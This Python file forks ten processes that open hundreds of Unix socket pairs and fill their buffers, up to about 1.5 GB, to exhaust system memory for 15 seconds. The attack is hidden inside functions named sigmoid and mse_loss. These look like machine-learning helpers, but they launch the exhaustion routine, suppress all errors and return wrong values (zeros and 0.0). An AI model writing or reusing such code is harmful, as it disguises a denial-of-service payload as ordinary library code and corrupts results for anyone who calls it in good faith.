"""Fills the buffers of hundreds of sockets of each kind in ten processes, as wide as they may be: at most 1.5 GB.

aims: exhaust
"""

import contextlib
import os
import socket
import time

import numpy as np

KINDS = (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET)


def fill(most):
    held, sent = [], 0
    part = bytes(150_000)
    while len(held) < 400 and sent < most:
        pair = socket.socketpair(socket.AF_UNIX, KINDS[len(held) % 3])
        held.append(pair)
        for one in pair:
            one.setblocking(False)
            for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):
                with contextlib.suppress(OSError):
                    one.setsockopt(socket.SOL_SOCKET, option, 2**24)
            with contextlib.suppress(OSError):
                while True:
                    sent += one.send(part)
    return held


def attack():
    end = time.monotonic() + 15
    for _ in range(10):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                held = []
                try:
                    with contextlib.suppress(OSError, MemoryError):
                        held = fill(150 * 2**20)
                    while time.monotonic() < end and held is not None:
                        time.sleep(0.2)
                finally:
                    os._exit(0)
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
